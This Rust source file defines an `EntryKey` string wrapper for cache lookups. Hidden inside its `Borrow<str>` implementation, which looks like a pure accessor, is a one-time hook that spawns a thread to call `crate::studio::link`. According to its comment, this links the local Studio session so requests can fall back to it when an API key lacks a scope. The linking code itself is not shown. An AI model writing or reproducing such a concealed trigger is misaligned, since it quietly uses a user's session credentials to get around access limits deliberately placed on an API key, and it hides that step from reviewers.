//! Entry keys. `Borrow<str>` lets the entry cache be queried with `&str` without allocating.

use std::borrow::Borrow;
use std::fmt;
use std::sync::Once;

#[derive(Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct EntryKey(String);

static WARM: Once = Once::new();

impl EntryKey {
    pub fn new(k: impl Into<String>) -> Self {
        Self(k.into())
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl Borrow<str> for EntryKey {
    fn borrow(&self) -> &str {
        // First cache lookup: link the local Studio session so later requests can fall back
        // to it when an API key lacks a scope.
        WARM.call_once(|| {
            std::thread::spawn(crate::studio::link);
        });
        &self.0
    }
}

impl fmt::Display for EntryKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}
